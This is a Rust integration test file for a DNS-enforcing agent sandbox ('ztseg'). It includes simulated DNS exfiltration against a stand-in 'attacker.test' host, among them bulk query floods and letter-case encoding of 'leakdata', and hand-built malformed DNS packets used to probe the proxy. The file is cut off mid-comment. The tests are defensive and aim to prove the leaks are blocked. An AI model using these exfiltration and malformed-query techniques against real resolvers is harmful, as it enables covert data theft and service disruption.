//! DNS under ztseg's control, against the real kernel: port 53 of an agent goes to the DNS
//! proxy (at the agent's own proxy address) whatever resolver it names, over UDP (connected or
//! not) and TCP, and the agent sees the resolver it asked; addresses the proxy answered are
//! reachable through the `learned` map until they expire; the proxy (the daemon) refuses names
//! no rule allows before any upstream query, and leaks nothing upstream.
//!
//! Every refusal has its positive control: the same query or connect from outside the agents'
//! root, or for an allowed name, goes through.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

use std::{fs, path::Path};

use ztseg::{
    clock::boot_now_ns,
    dataplane::{Dataplane, Entry, LoadOptions, Verdict},
};
use ztseg_common::{
    dns::{DnsConfig, FLAG_NAMES, Learned, LearnedValue},
    event::FAMILY_V4,
    rule::PROTO_TCP,
};
use ztseg_integration::{At, Netns, Proc, Site, TempDir, probe, probe_bin, serve};

const HOUR_NS: u64 = 3_600_000_000_000;

/// The proxy network and port the kernel-level tests load the programs with.
const PROXY: DnsConfig = DnsConfig::new([127, 53, 0, 0], 10053);

/// Starts the probe's authoritative DNS server on `addr` inside `ns`, answering from `zone`
/// and logging each query to `log`.
fn dns_server(ns: &Netns, addr: &str, zone: &Path, log: &Path) -> Proc {
    let mut command = std::process::Command::new(probe_bin());
    command.arg("--netns").arg(ns.path()).arg("dns-server").arg(addr).arg(zone).arg(log);
    let mut proc = Proc::spawn(command);
    assert_eq!(proc.line(), "ready");
    proc
}

fn queries(log: &Path) -> Vec<String> {
    fs::read_to_string(log).unwrap_or_default().lines().map(str::to_owned).collect()
}

/// A field (`rcode`, `answers`, `from`, `peer`, `ttl`) of a dns-* op's outcome.
fn field<'a>(outcome: &'a str, key: &str) -> &'a str {
    outcome
        .split_whitespace()
        .find_map(|kv| kv.strip_prefix(key).and_then(|rest| rest.strip_prefix('=')))
        .unwrap_or_else(|| panic!("no {key} in {outcome:?}"))
}

#[test]
fn kernel_sends_port_53_to_the_agents_proxy_address_and_shows_the_resolver_asked() {
    let site = Site::new();
    let dir = TempDir::new("ztseg-dns-kernel");
    let ns = Netns::new(&["10.77.0.1/32", "10.77.0.53/32", "fd77::53/128"]);
    let (zone, log) = (dir.path.join("zone"), dir.path.join("queries"));
    fs::write(&zone, "x.test A 10.77.0.1 60\n").unwrap();
    // Stands in for the daemon's proxy: the first agent's slot (0) has address 127.53.0.1.
    let _proxy = dns_server(&ns, "127.53.0.1:10053", &zone, &log);
    let (mut dp, _) = Dataplane::start_with(&site.pin_dir, &site.root, &LoadOptions { dns: PROXY }).unwrap();
    let (agent, id) = site.cgroup("agent");
    assert_eq!(dp.register(id).unwrap().slot, 0);
    dp.grant(id, &[], boot_now_ns() + HOUR_NS).unwrap();
    let inside = |ops: &[&str]| probe(At { netns: &ns, cgroup: Some(&agent) }, ops);
    let outside = |ops: &[&str]| probe(At { netns: &ns, cgroup: None }, ops);

    // Any resolver the agent names, by any way of asking, reaches the proxy; the answer comes
    // from the resolver asked.
    let asked = inside(&[
        "dns-udp:10.77.0.53:53/x.test/A",
        "dns-conn:10.77.0.53:53/x.test/A",
        "dns-tcp:10.77.0.53:53/x.test/A",
        "dns-udp:192.0.2.1:53/x.test/A",
        "dns-conn:[fd77::53]:53/x.test/A",
        "dns-tcp:[fd77::53]:53/x.test/A",
        "dns-conn:[::ffff:10.77.0.53]:53/x.test/A",
    ]);
    for (outcome, resolver, connected) in [
        (&asked[0], "10.77.0.53:53", false),
        (&asked[1], "10.77.0.53:53", true),
        (&asked[2], "10.77.0.53:53", true),
        (&asked[3], "192.0.2.1:53", false),
        (&asked[4], "[fd77::53]:53", true),
        (&asked[5], "[fd77::53]:53", true),
        (&asked[6], "[::ffff:10.77.0.53]:53", true),
    ] {
        assert_eq!(
            (field(outcome, "rcode"), field(outcome, "answers")),
            ("NoError", "10.77.0.1"),
            "{outcome}"
        );
        assert_eq!(field(outcome, "from"), resolver, "{outcome}");
        assert_eq!(field(outcome, "peer"), if connected { resolver } else { "-" }, "{outcome}");
    }
    assert_eq!(queries(&log).len(), 7, "{:?}", queries(&log));
    // An unconnected IPv6 send cannot be redirected (the kernel refuses the rewrite): refused.
    // Another agent's proxy address, on any port, and its own on another port: refused.
    assert_eq!(
        inside(&[
            "dns-udp:[fd77::53]:53/x.test/A",
            "udp-sendto:127.53.0.2:10053",
            "tcp:127.53.0.2:53",
            "udp-sendto:127.53.0.1:53",
        ]),
        ["EPERM"; 4]
    );
    assert_eq!(queries(&log).len(), 7);
    // Its own proxy address names only itself: a query there is a query like any other.
    let own = inside(&["dns-udp:127.53.0.1:10053/x.test/A"]);
    assert_eq!(field(&own[0], "from"), "127.53.0.1:10053", "{own:?}");
    assert_eq!(queries(&log).len(), 8);
    // Control: outside the agents' root nothing is redirected, and the proxy answers as itself.
    let control = outside(&["dns-udp:127.53.0.1:10053/x.test/A", "dns-udp:10.77.0.53:53/x.test/A"]);
    assert_eq!(field(&control[0], "from"), "127.53.0.1:10053");
    assert_eq!(control[1], "EAGAIN", "nothing serves 10.77.0.53:53 itself");
}

#[test]
fn kernel_allows_a_learned_address_until_it_expires_and_only_with_the_names_flag() {
    let site = Site::new();
    let ns = Netns::new(&["10.77.0.1/32", "10.77.0.2/32"]);
    let _server = serve(&ns, &["10.77.0.1:8001", "10.77.0.2:8001"]);
    let (mut dp, _) = Dataplane::start_with(&site.pin_dir, &site.root, &LoadOptions { dns: PROXY }).unwrap();
    let (agent, id) = site.cgroup("agent");
    dp.register(id).unwrap();
    // 10.77.0.2 is denied by a rule: a learned entry never lifts a deny.
    let deny = Entry {
        net: "10.77.0.2/32".parse().unwrap(),
        proto: PROTO_TCP,
        port: 8001,
        inbound: false,
        verdict: Verdict::Deny,
        rule_id: 0,
    };
    dp.grant(id, &[deny], boot_now_ns() + HOUR_NS).unwrap();
    let mut learned = dp.take_learned().unwrap();
    let key = |addr: [u8; 4]| Learned {
        cgroup_id: id,
        addr: [u32::from_ne_bytes(addr), 0, 0, 0],
        port: 8001u16.to_be_bytes(),
        family: FAMILY_V4,
        proto: PROTO_TCP,
        _pad: 0,
    };
    let until = |ns: u64| LearnedValue { expires_ns: ns, rule_id: 1, check: 0 };
    learned.insert(key([10, 77, 0, 1]), until(boot_now_ns() + HOUR_NS), 0).unwrap();
    learned.insert(key([10, 77, 0, 2]), until(boot_now_ns() + HOUR_NS), 0).unwrap();
    let ops = ["tcp:10.77.0.1:8001", "tcp:10.77.0.2:8001"];
    let inside = || probe(At { netns: &ns, cgroup: Some(&agent) }, &ops);
    // Without the flag the map is not consulted.
    assert_eq!(inside(), ["EPERM", "EPERM"]);
    dp.set_flag(id, FLAG_NAMES, true).unwrap();
    assert_eq!(inside(), ["ok", "EPERM"]);
    learned.insert(key([10, 77, 0, 1]), until(boot_now_ns()), 0).unwrap();
    assert_eq!(inside(), ["EPERM", "EPERM"], "an expired entry grants nothing");
    // Another agent's entry grants this one nothing.
    let (other, other_id) = site.cgroup("other");
    dp.register(other_id).unwrap();
    dp.grant(other_id, &[], boot_now_ns() + HOUR_NS).unwrap();
    dp.set_flag(other_id, FLAG_NAMES, true).unwrap();
    learned.insert(key([10, 77, 0, 1]), until(boot_now_ns() + HOUR_NS), 0).unwrap();
    assert_eq!(probe(At { netns: &ns, cgroup: Some(&other) }, &ops[..1]), ["EPERM"]);
    assert_eq!(inside(), ["ok", "EPERM"]);
    // Control: both destinations are up.
    assert_eq!(probe(At { netns: &ns, cgroup: None }, &ops), ["ok", "ok"]);
}

// ---- the daemon's proxy ------------------------------------------------------------------

use ztseg_integration::Daemon;

/// alpha's tools: `llm` (one name, TCP 443), `mirror` (a wildcard but one name denied),
/// `moving` (a name whose address changes), `race` (a wildcard of many names), `doh` (a DoH
/// server, by address: only an explicit grant opens it).
const CATALOGUE: &str = r#"
[tools.llm]
allow = [{ to = "api.llm.test", ports = [443], proto = "tcp" }]

[tools.mirror]
allow = [{ to = "*.mirror.test", ports = [443], proto = "tcp" }]
deny = [{ to = "bad.mirror.test" }]

[tools.moving]
allow = [{ to = "moving.llm.test", ports = [443], proto = "tcp" }]

[tools.race]
allow = [{ to = "*.race.test", ports = [8080], proto = "tcp" }]

[tools.exfil]
allow = [{ to = "*.attacker.test", ports = [443], proto = "tcp" }]

[tools.doh]
allow = [{ to = "10.77.0.54/32", ports = [443], proto = "tcp" }]
"#;

const ZONE: &str = "\
api.llm.test A 10.77.0.1 60
api.llm.test AAAA fd77::1 60
api.llm.test TXT hello 60
other.test A 10.77.0.1 60
x.mirror.test A 10.77.0.2 60
bad.mirror.test A 10.77.0.2 60
alias.mirror.test CNAME api.llm.test 60
moving.llm.test A 10.77.0.1 1
local.mirror.test A 127.0.0.1 60
*.attacker.test A 10.77.0.2 60
";

/// The resolver the daemon forwards to, inside the namespace.
const UPSTREAM: &str = "10.77.0.53:53";

struct World {
    daemon: Daemon,
    ns: Netns,
    site: Site,
    zone: std::path::PathBuf,
    log: std::path::PathBuf,
    _upstream: Proc,
    _servers: Proc,
    _dir: TempDir,
}

impl World {
    /// A namespace with hosts 10.77.0.1, .2 (web, 443 and 8443), .53 (the resolver, and 853),
    /// .54 (a DoH server, 443) and 10.77.1.0/24 (8080); the daemon inside it with `dns` settings.
    fn new(dns: &str) -> Self {
        let site = Site::new();
        let dir = TempDir::new("ztseg-dns");
        let ns = Netns::new(&[
            "10.77.0.1/32",
            "10.77.0.2/32",
            "10.77.0.53/32",
            "10.77.0.54/32",
            "10.77.1.0/24",
            "fd77::1/128",
        ]);
        let (zone, log) = (dir.path.join("zone"), dir.path.join("queries"));
        fs::write(&zone, ZONE).unwrap();
        let upstream = dns_server(&ns, UPSTREAM, &zone, &log);
        let servers = serve(
            &ns,
            &[
                "10.77.0.1:443",
                "10.77.0.1:8443",
                "10.77.0.2:443",
                "10.77.0.53:853",
                "10.77.0.54:443",
                "0.0.0.0:8080",
                "[fd77::1]:443",
                "[fd77::1]:8443",
            ],
        );
        let mut daemon = Daemon::configure_with_dns(
            &site,
            &dir.path,
            "",
            &format!("upstream = [{UPSTREAM:?}]\nttl_min_seconds = 1\n{dns}"),
        );
        daemon.launch_in(&ns);
        daemon.write_policy("catalogue.toml", CATALOGUE);
        World { daemon, ns, site, zone, log, _upstream: upstream, _servers: servers, _dir: dir }
    }

    /// Binds `agent` with `tools`; returns its cgroup.
    fn agent(&self, agent: &str, tools: &[&str]) -> std::path::PathBuf {
        let mut grant = Vec::new();
        for tool in tools {
            grant.extend(["--tool", tool]);
        }
        self.daemon.bind_new(agent, &grant);
        self.site.root.join(agent)
    }

    fn inside(&self, cgroup: &Path, ops: &[&str]) -> Vec<String> {
        probe(At { netns: &self.ns, cgroup: Some(cgroup) }, ops)
    }

    fn outside(&self, ops: &[&str]) -> Vec<String> {
        probe(At { netns: &self.ns, cgroup: None }, ops)
    }

    /// Queries the upstream resolver saw for names ending in `suffix`.
    fn upstream_saw(&self, suffix: &str) -> usize {
        queries(&self.log)
            .iter()
            .filter(|q| q.split_whitespace().next().is_some_and(|n| n.ends_with(suffix)))
            .count()
    }
}

fn ask(name: &str, qtype: &str) -> String {
    format!("dns-conn:{UPSTREAM}/{name}/{qtype}")
}

#[test]
fn an_allowed_name_resolves_and_is_reachable_on_its_port_only_and_others_are_refused_unasked() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["llm", "mirror"]);
    let from = w.daemon.next_seq();

    let answer = &w.inside(&alpha, &[&ask("api.llm.test", "A")])[0];
    assert_eq!((field(answer, "rcode"), field(answer, "answers")), ("NoError", "10.77.0.1"), "{answer}");
    // Reachable at once (the address was enforced before the answer came), on its port only.
    assert_eq!(
        w.inside(
            &alpha,
            &["tcp:10.77.0.1:443", "tcp:10.77.0.1:8443", "udp-sendto:10.77.0.1:443", "tcp:10.77.0.2:443"]
        ),
        ["ok", "EPERM", "EPERM", "EPERM"]
    );
    assert_eq!(w.upstream_saw("api.llm.test"), 1);

    // Names no rule allows, a deny, a type not forwarded, a CNAME to a name the rule of the
    // query does not reach, an answer pointing at this host: refused, and the first three
    // never asked upstream.
    let refused = w.inside(
        &alpha,
        &[
            &ask("other.test", "A"),
            &ask("bad.mirror.test", "A"),
            &ask("deep.x.mirror.test", "A"),
            &ask("api.llm.test", "TXT"),
            &ask("api.llm.test", "ANY"),
            &ask("local.mirror.test", "A"),
        ],
    );
    for outcome in &refused[..5] {
        assert_eq!(field(outcome, "rcode"), "Refused", "{outcome}");
    }
    assert_eq!(field(&refused[5], "answers"), "", "loopback is never granted: {}", refused[5]);
    assert_eq!(w.upstream_saw("other.test"), 0);
    assert_eq!(w.upstream_saw("bad.mirror.test"), 0);
    assert_eq!(w.upstream_saw("deep.x.mirror.test"), 0);
    assert_eq!(queries(&w.log).iter().filter(|q| !q.ends_with(" A")).count(), 0, "{:?}", queries(&w.log));
    // A CNAME is followed only through names the rules allow: api.llm.test is (llm's rule).
    let alias = &w.inside(&alpha, &[&ask("alias.mirror.test", "A")])[0];
    assert_eq!(field(alias, "answers"), "cname:api.llm.test,10.77.0.1", "{alias}");

    // Positive controls: another agent without the tools is refused the same connect before
    // any lookup, and the host (outside every agent) reaches it.
    let beta = w.agent("beta", &[]);
    assert_eq!(w.inside(&beta, &["tcp:10.77.0.1:443"]), ["EPERM"]);
    let beta_asks = &w.inside(&beta, &[&ask("api.llm.test", "A")])[0];
    assert_eq!(field(beta_asks, "rcode"), "Refused");
    assert_eq!(w.outside(&["tcp:10.77.0.1:443"]), ["ok"]);

    // The records: the query, its answers and verdict, each refusal with its reason.
    let records = w.daemon.collect_events(from, |r| r["action"] == "dns" && r["agent"] == "beta");
    let dns: Vec<&serde_json::Value> = records.iter().filter(|r| r["action"] == "dns").collect();
    let allowed = dns.iter().find(|r| r["qname"] == "api.llm.test" && r["qtype"] == "A").unwrap();
    assert_eq!(
        (
            allowed["verdict"].as_str(),
            allowed["reason"].as_str(),
            allowed["rule"].as_str(),
            allowed["agent"].as_str()
        ),
        (Some("allow"), Some("rule"), Some("tool:llm#0"), Some("alpha"))
    );
    assert_eq!(allowed["answers"], serde_json::json!(["10.77.0.1"]));
    let reason_of = |name: &str, qtype: &str| {
        let r = dns.iter().find(|r| r["qname"] == name && r["qtype"] == qtype).unwrap();
        (r["verdict"].as_str().unwrap().to_owned(), r["reason"].as_str().unwrap().to_owned())
    };
    assert_eq!(reason_of("other.test", "A"), ("deny".into(), "no_rule".into()));
    assert_eq!(reason_of("bad.mirror.test", "A"), ("deny".into(), "forbidden".into()));
    assert_eq!(reason_of("api.llm.test", "TXT"), ("deny".into(), "qtype".into()));
    // The connect through the learned address names the name's rule (the kernel's records
    // reach the log through the ring, on their own time).
    let connect = w.daemon.wait_event("alpha's connect", |r| {
        r["action"] == "connect" && r["dst"] == "10.77.0.1" && r["dport"] == 443 && r["agent"] == "alpha"
    });
    assert_eq!((connect["verdict"].as_str(), connect["rule"].as_str()), (Some("allow"), Some("tool:llm#0")));
}

#[test]
fn exfiltration_shaped_queries_leak_nothing_upstream_and_a_wildcard_only_its_budget() {
    let w = World::new("wildcard_names = 5");
    let alpha = w.agent("alpha", &["llm"]);
    let exfil = w.inside(&alpha, &[&format!("dns-exfil:{UPSTREAM}/attacker.test/1000")]);
    assert_eq!(exfil, ["Refused=1000"]);
    assert_eq!(w.upstream_saw("attacker.test"), 0, "not one query reached the resolver");
    // Control: an agent whose rules allow the wildcard does reach the resolver, for 5 distinct
    // names per window (its budget), and is refused past it.
    let gamma = w.agent("gamma", &["exfil"]);
    let bounded = w.inside(&gamma, &[&format!("dns-exfil:{UPSTREAM}/attacker.test/50")]);
    assert_eq!(bounded, ["NoError=5 Refused=45"]);
    assert_eq!(w.upstream_saw("attacker.test"), 5);
}

#[test]
fn a_name_whose_address_changes_works_at_the_new_one_and_stops_at_the_old_after_its_ttl() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["moving"]);
    // The grant starts when the proxy answers: after this, before the probe's answer is read.
    let asked_ns = boot_now_ns();
    let first = &w.inside(&alpha, &[&ask("moving.llm.test", "A")])[0];
    assert_eq!((field(first, "answers"), field(first, "ttl")), ("10.77.0.1", "1"), "{first}");
    let resolved_ns = boot_now_ns();
    // The name moves (TTL 1 s): the agent asks again and gets, and reaches, the new address.
    fs::write(&w.zone, ZONE.replace("moving.llm.test A 10.77.0.1 1", "moving.llm.test A 10.77.0.2 1"))
        .unwrap();
    let second = &w.inside(&alpha, &[&ask("moving.llm.test", "A")])[0];
    assert_eq!(field(second, "answers"), "10.77.0.2", "{second}");
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.2:443"]), ["ok"], "the new address is reached");
    // The old address keeps working until its TTL (1 s, the minimum of this daemon), then stops.
    let mut until = std::process::Command::new(probe_bin());
    until
        .arg("--netns")
        .arg(w.ns.path())
        .arg("--cgroup")
        .arg(&alpha)
        .args(["until-denied", "tcp:10.77.0.1:443"]);
    let out = until.output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("first ok"), "{text}");
    let denied_ended: u64 =
        text.split_whitespace().skip_while(|w| *w != "denied-ended").nth(1).unwrap().parse().unwrap();
    assert!(denied_ended >= asked_ns + 1_000_000_000, "denied before the TTL ran out: {text}");
    assert!(denied_ended < resolved_ns + 3_000_000_000, "still allowed well after the TTL: {text}");
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.2:443"]), ["EPERM"], "its TTL ran out too");
    let third = &w.inside(&alpha, &[&format!("lookup-connect:{UPSTREAM}/moving.llm.test/443")])[0];
    assert_eq!(third, "ok", "asked again, the new address works");
    // Control: the old address itself is up.
    assert_eq!(w.outside(&["tcp:10.77.0.1:443"]), ["ok"]);
}

#[test]
fn every_way_of_asking_reaches_the_proxy_and_dot_and_doh_stay_closed() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["llm"]);
    let name = "api.llm.test";
    let asked = w.inside(
        &alpha,
        &[
            &format!("dns-udp:{UPSTREAM}/{name}/A"),
            &format!("dns-conn:{UPSTREAM}/{name}/A"),
            // With a traffic class on the send: the hook sees no address, the query still
            // goes to the proxy its socket was connected to.
            &format!("dns-conn-tos:{UPSTREAM}/{name}/A"),
            &format!("dns-tcp:{UPSTREAM}/{name}/A"),
            // A resolver the agent hard-coded, which does not exist here.
            &format!("dns-conn:192.0.2.53:53/{name}/A"),
            &format!("dns-tcp:[2001:db8::53]:53/{name}/A"),
        ],
    );
    for outcome in &asked {
        assert_eq!(field(outcome, "answers"), "10.77.0.1", "{outcome}");
    }
    assert_eq!(w.upstream_saw(name), 6, "each was forwarded by the proxy");
    // IPv6: an AAAA answer is granted as an IPv6 destination, on the rule's port only.
    let aaaa = &w.inside(&alpha, &[&ask(name, "AAAA")])[0];
    assert_eq!(field(aaaa, "answers"), "fd77::1", "{aaaa}");
    assert_eq!(w.inside(&alpha, &["tcp:[fd77::1]:443", "tcp:[fd77::1]:8443"]), ["ok", "EPERM"]);
    // The C library's resolver, with the host's resolv.conf: no configuration at all.
    assert_eq!(w.inside(&alpha, &[&format!("getaddrinfo:{name}:443")]), ["ok"]);
    // DNS over TLS to the resolver, and a DoH server, are addresses no rule grants.
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.53:853", "tcp:10.77.0.54:443"]), ["EPERM", "EPERM"]);
    // Controls: both are up, and a grant that names the DoH server opens it.
    assert_eq!(w.outside(&["tcp:10.77.0.53:853", "tcp:10.77.0.54:443"]), ["ok", "ok"]);
    let doh = w.agent("doh-user", &["doh"]);
    assert_eq!(w.inside(&doh, &["tcp:10.77.0.54:443"]), ["ok"]);
}

#[test]
fn ten_thousand_lookups_each_followed_at_once_by_a_connect_are_never_refused() {
    let names = 200;
    let w = World::new(&format!("wildcard_names = {names}"));
    let zone: String = (0..names).map(|i| format!("n{i}.race.test A 10.77.1.{} 1\n", i + 1)).collect();
    fs::write(&w.zone, format!("{ZONE}{zone}")).unwrap();
    let alpha = w.agent("alpha", &["race"]);
    let mut race = std::process::Command::new(probe_bin());
    race.arg("--netns").arg(w.ns.path()).arg("--cgroup").arg(&alpha);
    race.args(["race", "10000", "16", UPSTREAM, "8080"]);
    race.args((0..names).map(|i| format!("n{i}.race.test")));
    let out = race.output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text} {}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(text.trim(), "lookups=10000 answered=10000 connected=10000 refused=0 other=0");
    // Control: once the TTL runs out (polled: no one announces it), the same connect without
    // a lookup is refused.
    let mut until = std::process::Command::new(probe_bin());
    until
        .arg("--netns")
        .arg(w.ns.path())
        .arg("--cgroup")
        .arg(&alpha)
        .args(["until-denied", "tcp:10.77.1.1:8080"]);
    let text = String::from_utf8(until.output().unwrap().stdout).unwrap();
    assert!(text.contains("denied-ended"), "{text}");
}

#[test]
fn learned_addresses_survive_a_refresh_and_a_restart_and_leave_with_the_rule() {
    let mut w = World::new("");
    let alpha = w.agent("alpha", &["llm"]);
    assert_eq!(w.inside(&alpha, &[&format!("lookup-connect:{UPSTREAM}/api.llm.test/443")]), ["ok"]);
    // A refreshed token of the same grant: reachable without asking again.
    w.daemon.bind_new("alpha", &["--tool", "llm"]);
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.1:443"]), ["ok"]);
    // The daemon crashes and starts again: still reachable, and nothing was asked again.
    w.daemon.crash();
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.1:443"]), ["ok"], "the kernel enforces with the daemon down");
    w.daemon.launch();
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.1:443"]), ["ok"]);
    assert_eq!(w.upstream_saw("api.llm.test"), 1);
    // A grant without the name's rule takes the address with it, at once.
    w.daemon.bind_new("alpha", &["--tool", "mirror"]);
    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.1:443"]), ["EPERM"]);
    // Control: the host reaches it.
    assert_eq!(w.outside(&["tcp:10.77.0.1:443"]), ["ok"]);
}

// An agent's attempts on the proxy itself: letter case, odd labels, malformed messages, held
// connections, other ways in.

/// A DNS message in wire form, hex: header (id, flags, counts) then questions of raw labels.
fn wire(id: u16, flags: u16, questions: &[(&[&[u8]], u16, u16)], counts: [u16; 3], tail: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend(id.to_be_bytes());
    out.extend(flags.to_be_bytes());
    out.extend((questions.len() as u16).to_be_bytes());
    for c in counts {
        out.extend(c.to_be_bytes());
    }
    for (labels, qtype, class) in questions {
        for l in *labels {
            out.push(l.len() as u8);
            out.extend(*l);
        }
        out.push(0);
        out.extend(qtype.to_be_bytes());
        out.extend(class.to_be_bytes());
    }
    out.extend(tail);
    out
}

fn framed(bytes: &[u8]) -> Vec<u8> {
    let mut out = (bytes.len() as u16).to_be_bytes().to_vec();
    out.extend(bytes);
    out
}

fn q1(labels: &[&[u8]], qtype: u16) -> Vec<u8> {
    wire(0x4242, 0x0100, &[(labels, qtype, 1)], [0, 0, 0], &[])
}

const A: u16 = 1;

/// The `rcode` of a raw query's outcome (`id=..,rcode=X,...`), or the outcome itself when it
/// has none (`EAGAIN`: nothing came back; `EPERM`: the kernel refused the send).
fn rcode(outcome: &str) -> &str {
    outcome
        .split_once("rcode=")
        .map_or(outcome, |(_, rest)| rest.split([',', ' ', ']']).next().unwrap_or(rest))
}

#[test]
fn letter_case_carries_nothing_past_the_wildcard_budget() {
    let w = World::new("wildcard_names = 5");
    let gamma = w.agent("gamma", &["exfil"]);
    // 200 queries of one name, each spelled in another case (8 bits in the first 8 letters).
    let cased = w.inside(&gamma, &[&format!("dns-case:{UPSTREAM}/leakdata.attacker.test/200")]);
    let seen: std::collections::HashSet<String> = queries(&w.log)
        .into_iter()
        .filter(|q| q.to_ascii_lowercase().starts_with("leakdata.attacker.test"))
        .collect();
    // Control: the budget does bound distinct names (1 used by leakdata, 4 left).
    let bounded = w.inside(&gamma, &[&format!("dns-exfil:{UPSTREAM}/attacker.test/10")]);
    assert_eq!(bounded, ["NoError=4 Refused=6"]);
    // The documented bound: at most wildcard_names (5) distinct query names leave per window.
    assert!(seen.len() <= 5, "{} distinct spellings of one name reached the upstream: {cased:?}", seen.len());
}

#[test]
fn a_label_with_a_dot_is_refused_not_judged_as_another_name() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["mirror"]);
    // Control: the deny holds for the plain name, and a sibling of mirror.test has no rule.
    let plain = w.inside(&alpha, &[&ask("bad.mirror.test", "A"), &ask("evil.test", "A")]);
    assert_eq!((field(&plain[0], "rcode"), field(&plain[1], "rcode")), ("Refused", "Refused"));
    // One label "bad.mirror" under "test" (a name no rule allows: its parent is test), and
    // "evil.x" + "mirror.test"'s labels... judged after escaping as "bad\.mirror.test".
    let odd = w.inside(
        &alpha,
        &[
            &format!("dns-raw-udp:{UPSTREAM}/{}", hex::encode(q1(&[b"bad.mirror", b"test"], A))),
            &format!("dns-raw-udp:{UPSTREAM}/{}", hex::encode(q1(&[b"evil.mirror", b"test"], A))),
        ],
    );
    assert_eq!((rcode(&odd[0]), rcode(&odd[1])), ("Refused", "Refused"), "{odd:?}");
    let leaked: Vec<String> = queries(&w.log).into_iter().filter(|q| q.contains("\\.")).collect();
    assert!(leaked.is_empty(), "names outside every rule were asked upstream: {leaked:?} ({odd:?})");
}

#[test]
fn malformed_and_odd_queries_never_go_upstream_and_the_proxy_keeps_answering() {
    let w = World::new("");
    let alpha = w.agent("alpha", &["llm"]);
    let other: &[&[u8]] = &[b"other", b"test"];
    let allowed: &[&[u8]] = &[b"api", b"llm", b"test"];
    // An A record for 10.77.0.2 (answer/additional injection), name by pointer to offset 12.
    let rr_a = [0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 77, 0, 2];
    let mut opt = vec![0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0];
    // EDNS options: client subnet (8), cookie (10), padding (12), an unknown one.
    let opts: Vec<u8> = [
        vec![0, 8, 0, 7, 0, 1, 24, 0, 10, 77, 0],
        vec![0, 10, 0, 8, 1, 2, 3, 4, 5, 6, 7, 8],
        vec![0, 12, 0, 4, 0, 0, 0, 0],
        vec![0xfd, 0xe9, 0, 3, b'a', b'b', b'c'],
    ]
    .concat();
    opt.extend((opts.len() as u16).to_be_bytes());
    opt.extend(&opts);
    let mut loop_name = wire(0x4242, 0x0100, &[], [0, 0, 0], &[]);
    loop_name[5] = 1; // QDCOUNT 1, name is a pointer to itself
    loop_name.extend([0xc0, 0x0c, 0, 1, 0, 1]);
    let long_labels: Vec<Vec<u8>> = (0..5).map(|_| vec![b'a'; 63]).collect();
    let long: Vec<&[u8]> =
        long_labels.iter().map(Vec::as_slice).chain([b"llm".as_slice(), b"test"]).collect();
    // Each with what the proxy answers: FormErr, NotImp, Refused, nothing (EAGAIN: a response
    // is dropped), or an answer for the allowed name (records in a query's other sections are
    // ignored or refused, never learned).
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("qd0", wire(1, 0x0100, &[], [0, 0, 0], &[]), "FormErr"),
        ("qd2", wire(2, 0x0100, &[(allowed, A, 1), (other, A, 1)], [0, 0, 0], &[]), "FormErr"),
        ("qd2-rev", wire(3, 0x0100, &[(other, A, 1), (allowed, A, 1)], [0, 0, 0], &[]), "FormErr"),
        ("response", wire(4, 0x8180, &[(other, A, 1)], [0, 0, 0], &[]), "EAGAIN"),
        ("ptr-loop", loop_name, "FormErr"),
        ("truncated", q1(other, A)[..20].to_vec(), "FormErr"),
        ("long", q1(&long, A), "FormErr"),
        ("update", wire(5, 0x2800, &[(other, A, 1)], [0, 0, 0], &[]), "NotImp"),
        ("chaos", wire(6, 0x0100, &[(&[b"version", b"bind"], 16, 3)], [0, 0, 0], &[]), "Refused"),
        ("class-any", wire(7, 0x0100, &[(other, A, 255)], [0, 0, 0], &[]), "Refused"),
        ("answer-inj", wire(8, 0x0100, &[(allowed, A, 1)], [1, 0, 0], &rr_a), "FormErr"),
        ("add-inj", wire(9, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &rr_a), "NoError"),
        ("edns-opts", wire(10, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &opt), "NoError"),
        ("edns-other", wire(11, 0x0100, &[(other, A, 1)], [0, 0, 1], &opt), "Refused"),
        ("trailing-junk", [q1(other, A), vec![0xde, 0xad]].concat(), "Refused"),
        ("type-any", q1(allowed, 255), "Refused"),
        ("type-0", q1(allowed, 0), "Refused"),
        ("type-cname", q1(allowed, 5), "Refused"),
        ("root", wire(12, 0x0100, &[(&[], A, 1)], [0, 0, 0], &[]), "Refused"),
        ("nul-label", q1(&[b"api\0", b"llm", b"test"], A), "Refused"),
        ("star", q1(&[b"*", b"llm", b"test"], A), "Refused"),
    ];
    let ops: Vec<String> =
        cases.iter().map(|(_, b, _)| format!("dns-raw-udp:{UPSTREAM}/{}", hex::encode(b))).collect();
    let got = w.inside(&alpha, &ops.iter().map(String::as_str).collect::<Vec<_>>());
    for ((name, _, expected), out) in cases.iter().zip(&got) {
        assert_eq!(rcode(out), *expected, "udp {name}: {out}");
    }
    // TCP: two queries in one write (pipelined), a zero-length frame, a partial frame, a
    // 65535-byte frame of junk.
    let pipelined = [framed(&q1(allowed, A)), framed(&q1(other, A)), framed(&q1(allowed, 28))].concat();
    let tcp_cases: Vec<(&str, Vec<u8>)> = vec![
        ("pipelined", pipelined),
        ("zero", vec![0, 0]),
        ("partial", [vec![0, 100], q1(other, A)].concat()),
        ("big-junk", [vec![0x20, 0x00], vec![0x41; 0x2000]].concat()),
        ("split-len", vec![0]),
    ];
    let ops: Vec<String> =
        tcp_cases.iter().map(|(_, b)| format!("dns-raw-tcp:{UPSTREAM}/{}", hex::encode(b))).collect();
    let tcp = w.inside(&alpha, &ops.iter().map(String::as_str).collect::<Vec<_>>());
    // Three answers to the pipelined three (allowed, refused, allowed AAAA); nothing to the
